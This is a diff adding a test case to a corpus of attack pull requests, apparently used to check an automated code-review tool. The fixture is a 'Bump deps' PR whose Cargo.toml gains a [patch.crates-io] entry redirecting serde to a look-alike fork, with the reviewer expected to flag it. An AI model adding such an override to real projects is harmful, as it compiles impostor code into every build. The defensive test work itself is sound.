@@ -3435,4 +3435,23 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
   },
+  {
+    id: 'attack-cargo-patch-crates-io-to-fork',
+    description: 'A "bump deps" PR that adds `[patch.crates-io] serde = { git = … }` pointing at a look-alike fork (serde-rs1): every crate of the build now compiles that repository\'s serde, in a section no dependency list shows.',
+    fixture: () =>
+      attackPr({
+        repo: 'fast-rs',
+        number: 11020,
+        title: 'Bump deps',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'Cargo.toml',
+            base: lines('[package]', 'name = "fast"', 'version = "0.1.0"', 'edition = "2021"', '', '[dependencies]', 'serde = { version = "1.0", features = ["derive"] }', 'serde_json = "1.0"'),
+            head: lines('[package]', 'name = "fast"', 'version = "0.1.0"', 'edition = "2021"', '', '[dependencies]', 'serde = { version = "1.0", features = ["derive"] }', 'serde_json = "1.0"', '', '[patch.crates-io]', 'serde = { git = "https://github.com/serde-rs1/serde" }'),
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['git-dependency'] },
+  },
 ];
